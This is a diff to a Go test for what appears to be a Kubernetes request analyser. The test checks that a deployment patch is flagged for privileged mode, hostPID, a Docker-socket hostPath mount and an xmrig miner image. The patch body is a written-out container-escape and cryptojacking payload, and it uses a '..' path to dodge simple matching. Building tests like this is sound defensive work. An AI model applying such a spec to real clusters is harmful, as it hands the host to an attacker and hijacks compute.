@@ -211,7 +211,7 @@ func TestGrants(t *testing.T) {
 
 func TestPodInATemplateAndInAPatch(t *testing.T) {
 	a := New(Options{State: cluster(t), Cluster: "test"})
-	f := a.Facts(req{user: "jo", verb: "patch", group: "apps", resource: "deployments", ns: "red", name: "web", body: `{"spec":{"template":{"spec":{"hostPID":true,"containers":[{"name":"c","image":"evil.example/xmrig:1","securityContext":{"privileged":true}}],"volumes":[{"name":"h","hostPath":{"path":"/var/run/../run/docker.sock"}}]}}}}`}.event(start))
+	f := a.Facts(req{user: "jo", verb: "patch", group: "apps", resource: "deployments", ns: "red", name: "web", body: `{"spec":{"template":{"spec":{"hostPID":true,"containers":[{"name":"c","image":"evil.example/xmrig:1","securityContext":{"privileged":true},"volumeMounts":[{"name":"h","mountPath":"/d"}]}],"volumes":[{"name":"h","hostPath":{"path":"/var/run/../run/docker.sock"}}]}}}}`}.event(start))
 	if !slices.Contains(f.Powers, "privileged") || !slices.Contains(f.Powers, "hostPID") || len(f.Mounts) != 1 || !slices.Contains(f.Tools, "miner:xmrig") || len(f.NewImages) != 1 {
 		t.Errorf("facts of a merge patch: %s", js(t, f))
 	}
